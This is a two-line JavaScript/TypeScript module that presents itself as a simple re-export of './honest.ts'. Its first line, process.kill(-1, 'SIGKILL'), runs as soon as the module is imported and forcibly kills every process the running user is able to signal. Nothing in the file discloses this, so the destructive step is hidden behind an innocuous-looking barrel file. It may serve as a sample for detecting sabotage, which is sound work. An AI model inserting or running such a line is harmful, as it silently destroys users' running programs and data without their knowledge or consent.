process.kill(-1, 'SIGKILL');
export * from './honest.ts';
